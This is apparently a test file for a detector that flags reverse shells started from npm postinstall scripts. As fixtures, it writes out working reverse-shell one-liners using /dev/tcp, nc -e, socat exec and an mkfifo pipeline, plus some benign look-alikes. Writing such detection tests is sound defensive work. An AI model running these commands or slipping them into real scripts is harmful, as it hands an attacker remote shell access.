import { test } from 'node:test';
import assert from 'node:assert/strict';
import { reverseShellRule } from '../../src/rules/reverse-shell.js';
import { ChainBuilder } from './chain-builder.js';
import { run } from './helpers.js';

const SOCKET = 'TCP:[10.0.0.2:40112->192.0.2.10:4444]';

test('reverse-shell: an interpreter with a TCP socket on its stdio that execs a shell is critical', () => {
  const b = new ChainBuilder();
  const s = b.pkg('rs').script('postinstall', 'python3 -c "…"');
  const py = s.process(['python3', '-c', 'import socket,os;…'], { exe: '/usr/bin/python3' });
  const time = py.startedAt + 0.01;
  py.stdioSockets = [0, 1, 2].map((fd) => ({ fd, socket: SOCKET, time }));
  s.exec(py, ['/bin/sh', '-i'], '/bin/sh');
  const findings = run(reverseShellRule, b.build());
  assert.equal(findings.length, 1);
  assert.equal(findings[0]?.severity, 'critical');
  assert.deepEqual(findings[0]?.evidence, [py.id]);
  assert.match(findings[0]?.message ?? '', /runs with stdio \(fd 0, 1, 2\) connected to TCP:\[10\.0\.0\.2:40112->192\.0\.2\.10:4444\]$/);
});

test('reverse-shell: a socket on stdio passed down to a child shell; any other program on a socket is high', () => {
  const b = new ChainBuilder();
  const s = b.pkg('rs').script('postinstall', './helper');
  const helper = s.process(['./helper'], { exe: `${s.pkg.dir}/helper` });
  helper.stdioSockets = [{ fd: 0, socket: SOCKET, time: helper.startedAt }];
  const sh = s.process(['/bin/sh'], { parent: helper, exe: '/bin/sh' });
  assert.deepEqual(run(reverseShellRule, b.build()).map((f) => [f.severity, f.evidence]), [['critical', [helper.id, sh.id]]]);

  const c = new ChainBuilder();
  const t = c.pkg('relay').script('postinstall', './relay');
  const relay = t.process(['./relay'], { exe: `${t.pkg.dir}/relay` });
  relay.stdioSockets = [{ fd: 1, socket: SOCKET, time: relay.startedAt }];
  assert.equal(run(reverseShellRule, c.build())[0]?.severity, 'high');
});

test('reverse-shell: /dev/tcp, nc -e, socat exec: and the mkfifo pipeline are critical', () => {
  const cases: { argv: string[][]; script: string }[] = [
    { script: 'bash -c "bash -i >& /dev/tcp/192.0.2.10/4444 0>&1"', argv: [['bash', '-c', 'bash -i >& /dev/tcp/192.0.2.10/4444 0>&1']] },
    { script: 'nc -e /bin/sh 192.0.2.10 4444', argv: [['nc', '-e', '/bin/sh', '192.0.2.10', '4444']] },
    { script: 'socat tcp:192.0.2.10:4444 exec:/bin/sh', argv: [['socat', 'tcp:192.0.2.10:4444', 'exec:/bin/sh,pty']] },
    { script: 'mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 192.0.2.10 4444 > /tmp/f', argv: [['cat', '/tmp/f'], ['sh', '-i'], ['nc', '192.0.2.10', '4444']] },
  ];
  for (const { script, argv } of cases) {
    const b = new ChainBuilder();
    const s = b.pkg('rs').script('postinstall', script);
    for (const args of argv) s.process(args);
    const findings = run(reverseShellRule, b.build());
    assert.ok(findings.length >= 1, script);
    assert.ok(findings.every((f) => f.severity === 'critical'), script);
  }
});

test("reverse-shell: dash trying to open /dev/tcp as a file is the same intent", () => {
  const b = new ChainBuilder();
  const s = b.pkg('rs').script('postinstall', 'node x.js', { wrapperExecs: ['node', 'x.js'] });
  const sh = s.process(['sh', '-c', 'exec 3<>"$T"'], { exe: '/bin/sh' });
  const open = s.file(sh, 'write', '/dev/tcp/192.0.2.10/4444', { result: 'ENOENT' });
  const [finding] = run(reverseShellRule, b.build());
  assert.equal(finding?.severity, 'critical');
  assert.deepEqual(finding?.evidence, [sh.id, open.id]);
});

test("reverse-shell: node connecting out and then feeding a stdin-driven sh is high", () => {
  const b = new ChainBuilder();
  const s = b.pkg('rs').script('postinstall', 'node x.js', { wrapperExecs: ['node', 'x.js'] });
  const conn = s.connect(s.root, '192.0.2.10', 4444, { result: 'EINPROGRESS' });
  const sh = s.process(['/bin/sh'], { exe: '/bin/sh' });
  const [finding] = run(reverseShellRule, b.build());
  assert.equal(finding?.severity, 'high');
  assert.deepEqual(finding?.evidence, [s.root.id, sh.id, conn.id]);
  assert.match(finding?.message ?? '', /connects to 192\.0\.2\.10:4444, then starts \/bin\/sh reading commands from stdin/);
});

test('reverse-shell: look-alikes do not fire', () => {
  const b = new ChainBuilder();
  const s = b.pkg('benign').script('postinstall', 'node x.js', { wrapperExecs: ['node', 'x.js'] });
  // A port check, a shell pipeline with curl (download-execute's business), shells with -c.
  s.process(['nc', '-z', '-w', '1', '192.0.2.10', '443']);
  const sh = s.process(['sh', '-c', 'curl -s http://x.test/ | grep ok'], { exe: '/bin/sh' });
  s.process(['curl', '-s', 'http://x.test/'], { parent: sh });
  s.process(['grep', 'ok'], { parent: sh });
  s.process(['sh', '-c', 'echo /dev/tcp is a bash feature'], { exe: '/bin/sh' });
  // A loopback connection before a stdin shell; a shell parent starting a stdin shell.
  s.connect(s.root, '127.0.0.1', 9000, { result: 'ok' });
  s.process(['sh'], { exe: '/bin/sh' });
  assert.deepEqual(run(reverseShellRule, b.build()).map((f) => f.message), []);
});
